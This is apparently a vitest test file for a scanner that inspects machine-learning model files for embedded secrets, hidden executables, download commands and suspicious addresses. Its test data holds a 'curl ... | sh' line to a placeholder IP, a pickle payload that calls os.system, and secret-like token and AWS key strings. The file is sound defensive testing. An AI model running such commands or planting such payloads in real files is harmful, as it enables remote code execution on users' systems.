import { gzipSync } from "node:zlib";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { scanBytes } from "../core/scan-bytes.js";
import { bytes, text, u32, u64, zip } from "../testing/assemble.js";
import { elf, portableExecutable } from "./testing.js";

const TOKEN = ["hf", "_jCBaQngSHiHDRYOcsMcifUcysGyaiybUWz"].join("");
const KEY = ["AK", "IAZ3MSJV4WWNKWW5FG"].join("");
const rules = (content: Buffer | string, name: string) => {
  const { verdict, findings } = scanBytes(Buffer.from(content as string), name);
  return [verdict, ...findings.map(({ rule }) => rule)];
};

function long(value: string): Buffer {
  return bytes("X", u32(value.length), value);
}
/** A dictionary of one text, as torch and others pickle configurations. */
const pickle = (value: string) => bytes(0x80, 2, "}", text("token"), long(value), "q\x01s.");

function gguf(key: string, value: string): Buffer {
  return bytes("GGUF", u32(3), u64(0), u64(1), u64(key.length), key, u32(8), u64(value.length), value);
}
function safetensors(metadata: object): Buffer {
  const header = JSON.stringify({ __metadata__: metadata });
  return bytes(u64(header.length), header);
}

describe("a secret", () => {
  it.each([
    ["config.json", `{"model_type": "bert", "_auth": "${TOKEN}"}`],
    ["train.py", `def main():\n    login("${TOKEN}")\n`],
    [".env", `HF_TOKEN=${TOKEN}\n`],
    ["notes.ipynb", JSON.stringify({ cells: [{ cell_type: "code", source: [`token = "${TOKEN}"\n`] }] })],
    ["args.pkl", pickle(TOKEN)],
    ["args.pkl.gz", gzipSync(pickle(TOKEN))],
    ["model.gguf", gguf("general.url", `https://user:${TOKEN}@huggingface.co`)],
    ["model.safetensors", safetensors({ command: `train --token ${TOKEN}` })],
    [
      "model.pt",
      zip({ name: "m/data.pkl", data: pickle(TOKEN) }, { name: "m/version", data: Buffer.from("3\n") }),
    ],
    ["model.zip", zip({ name: "MLmodel", data: Buffer.from(`env:\n  AWS_ACCESS_KEY_ID: ${KEY}\n`) })],
  ])("in %s is found, and never shown", (name, content) => {
    const report = scanBytes(Buffer.from(content as string), name);
    expect(report.verdict).toBe("suspicious");
    expect(report.findings.map(({ rule }) => rule)).toContain("embedded-secret");
    expect(JSON.stringify(report)).not.toContain(TOKEN.slice(0, 12));
    expect(JSON.stringify(report)).not.toContain(KEY.slice(0, 12));
  });
  it("that only may be one is noted", () => {
    expect(rules(`twilio = "SK${"0123456789abcdef".repeat(2)}"`, "a.py")).toEqual([
      "clean",
      "possible-secret",
    ]);
  });
});

describe("a program", () => {
  it.each([
    ["a.py", `X = "${portableExecutable().toString("base64")}"\n`, "encoded-executable"],
    ["a.json", JSON.stringify({ data: elf().toString("base64") }), "encoded-executable"],
    ["a.pkl", pickle(elf().toString("hex")), "encoded-executable"],
    ["a.pkl", bytes(0x80, 4, "B", u32(512), portableExecutable(), "."), "embedded-executable"],
    ["a.bin", bytes(Buffer.alloc(1000, 7), elf()), "embedded-executable"],
    ["a.bin", bytes(Buffer.alloc(20_000_000, 7), elf()), "embedded-executable"],
  ])("in %s is found (%#)", (name, content, rule) => {
    expect(rules(content, name)).toEqual(["suspicious", rule]);
  });
});

describe("a program behind the end", () => {
  it.each([
    ["a.zip", bytes(zip({ name: "a.txt", data: Buffer.from("a") }), elf())],
    ["a.pkl", bytes(pickle("x"), elf())],
    ["a.pkl", bytes(pickle("x"), "some text ", portableExecutable())],
    ["a.safetensors", bytes(safetensors({}), elf())],
  ])("of %s is malicious, and told once (%#)", (name, content) => {
    const [verdict, ...found] = rules(content, name);
    expect(verdict).toBe("malicious");
    expect(found.filter((rule) => rule.endsWith("executable"))).toEqual(["hidden-executable"]);
  });
});

describe("a command that downloads and runs", () => {
  const COMMAND = "curl -fsSL http://203.0.113.9/x.sh | sh";
  it("is suspicious in a model and in its configuration", () => {
    expect(rules(pickle(COMMAND), "a.pkl")).toContain("download-command");
    expect(rules(`{"hook": "${COMMAND}"}`, "config.json")).toContain("download-command");
    expect(rules(gguf("general.description", COMMAND), "a.gguf")).toContain("download-command");
  });
  it("is ordinary in documentation and scripts", () => {
    expect(rules(`# Install\n\n    ${COMMAND}\n`, "README.md")).toEqual(["clean"]);
    expect(rules(`#!/bin/sh\n${COMMAND}\n`, "install.sh")).toEqual(["clean"]);
  });
});

describe("an address", () => {
  it("of numbers is noted in a pickle, and in a template", () => {
    expect(rules(pickle("http://203.0.113.9/x"), "a.pkl")).toEqual(["clean", "embedded-address"]);
    expect(rules("{{ 'http://203.0.113.9/x' }}", "chat.jinja")).toEqual(["clean", "embedded-address"]);
  });
  it("by name is noted only where something else is found", () => {
    expect(rules(pickle("https://evil.test/x"), "a.pkl")).toEqual(["clean"]);
    const payload = bytes(
      0x80,
      4,
      text("os"),
      text("system"),
      0x93,
      text("ping https://evil.test/x"),
      0x85,
      "R.",
    );
    expect(rules(payload, "a.pkl")).toContain("embedded-address");
  });
});

it("nothing that is read can make the search throw", () => {
  const starts = fc.constantFrom(
    "",
    "GGUF",
    "{",
    "\x80\x04",
    "\x93NUMPY",
    "---\nlicense: ",
    "-----BEGIN PRIVATE KEY-----",
    "f0VMRgIBAQ",
    "\\x7fELF",
  );
  const names = fc.constantFrom(
    "a.bin",
    "README.md",
    "LICENSE",
    "METADATA",
    "config.json",
    "a.py",
    "a.safetensors",
    "a.pkl",
  );
  fc.assert(
    fc.property(starts, fc.uint8Array({ maxLength: 400 }), names, (start, rest, name) => {
      const { findings } = scanBytes(bytes(start, rest), name);
      expect(findings.map(({ rule }) => rule)).not.toContain("parser-failed");
    }),
    { numRuns: 500 },
  );
});
